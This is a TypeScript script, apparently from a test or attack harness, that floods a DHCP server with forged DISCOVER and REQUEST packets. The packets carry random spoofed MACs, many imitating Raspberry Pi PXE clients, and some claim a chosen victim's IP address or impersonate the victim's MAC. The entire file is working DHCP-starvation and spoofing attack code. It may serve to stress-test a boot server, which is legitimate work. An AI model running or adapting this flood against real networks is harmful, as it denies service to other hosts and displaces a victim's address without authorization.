/**
 * DHCP messages of clients that are not there, each with a MAC of its own: `dhcp-flood.ts SERVER COUNT VICTIM-MAC VICTIM-ADDRESS`.
 * After COUNT of them it is under way, and goes on more slowly. Nine of ten are DISCOVERs; the victim's address is claimed, too.
 */
import { createSocket } from "node:dgram";
import { count, counted, over, ownAddress, pause, random, randomBytes, server, underWay, words } from "./attack.ts";

const [total = "", victimMac = "", victimAddress = ""] = words;

const CLASS = `3c20${Buffer.from("PXEClient:Arch:00000:UNDI:002001").toString("hex")}`;
const DISCOVER = "350101";
const REQUEST = "350103";
const EEPROM_LIST = "370e01032b3c4243808182838485 8687".replaceAll(" ", "");
const ARCH_AND_UNDI = "5d0200005e03010201";
/** At the gigabit's pace of a switch; all at once the socket of the attacker itself would drop them. */
const BURST = 50;

type Kind = readonly [name: string, make: (mac: Buffer) => Buffer];

function message(mac: Buffer, options: string, giaddr = "00000000"): Buffer {
	const xid = randomBytes(4).toString("hex");
	const head = `01010600${xid}00000000${"00".repeat(12)}${giaddr}${mac.toString("hex")}${"00".repeat(202)}63825363`;
	return Buffer.from(`${head}${options}ff`, "hex");
}

/** The identifier of a Pi 4 with any serial. */
function boardGuid(mac: Buffer): string {
	return `6111003469505214 31d000${mac.subarray(2).toString("hex")}${randomBytes(4).toString("hex")}`.replace(" ", "");
}

const pi4 = (mac: Buffer, type = DISCOVER) => `${type}${EEPROM_LIST}${CLASS}${ARCH_AND_UNDI}${boardGuid(mac)}`;
const guidOfRom = `611100${"44".repeat(16)}`;
const uuid = () => `611100${randomBytes(16).toString("hex")}`;
const hex = (address: string) => Buffer.from(address.split(".").map(Number)).toString("hex");

const KINDS: readonly Kind[] = [
	["a Pi 4", (mac) => message(mac, pi4(mac))],
	["a Pi 4", (mac) => message(mac, pi4(mac))],
	["a Pi 3B", (mac) => message(mac, `${DISCOVER}${CLASS}${ARCH_AND_UNDI}${guidOfRom}`)],
	["a PC", (mac) => message(mac, `${DISCOVER}${CLASS}${ARCH_AND_UNDI}${uuid()}`)],
	["plain Linux", (mac) => message(mac, `${DISCOVER}370401030628`)],
	["a relayed Pi 4", (mac) => message(mac, pi4(mac), hex(ownAddress(random(8))))],
	["a Pi 4 at the victim's address", (mac) => message(mac, `${pi4(mac, REQUEST)}3204${hex(victimAddress)}`)],
	[
		"the victim with another serial",
		() =>
			message(
				Buffer.from(victimMac.replaceAll(":", ""), "hex"),
				`${DISCOVER}${EEPROM_LIST}${CLASS}${ARCH_AND_UNDI}${uuid()}`,
			),
	],
	[
		"a REQUEST of plain Linux",
		(mac) => message(mac, `${REQUEST}3204${hex(victimAddress)}3d0701${mac.toString("hex")}`),
	],
	["half a message", (mac) => message(mac, pi4(mac)).subarray(0, random(250))],
];

const socket = createSocket({ type: "udp4", reuseAddr: true });
await new Promise<void>((resolve) => socket.bind(68, "0.0.0.0", resolve));
socket.setBroadcast(true);
socket.on("message", () => count("answers"));

function sendOne(): Promise<void> {
	const [name, make] = KINDS[counted("sent") % KINDS.length] ?? ["nobody", () => Buffer.alloc(0)];
	// Every second one has the prefix of Raspberry Pi.
	const mac = Buffer.concat([Buffer.from(random(2) === 0 ? "dca632" : "02005e", "hex"), randomBytes(3)]);
	const target = random(4) === 0 ? server : "255.255.255.255";
	count("sent");
	count(name);
	return new Promise((resolve) => socket.send(make(mac), 67, target, () => resolve()));
}

while (!over()) {
	for (let each = 0; each < BURST; each++) await sendOne();
	const isFull = counted("sent") >= Number(total);
	if (isFull && counted("sent") < Number(total) + BURST) underWay();
	await pause(isFull ? 50 : 5);
}
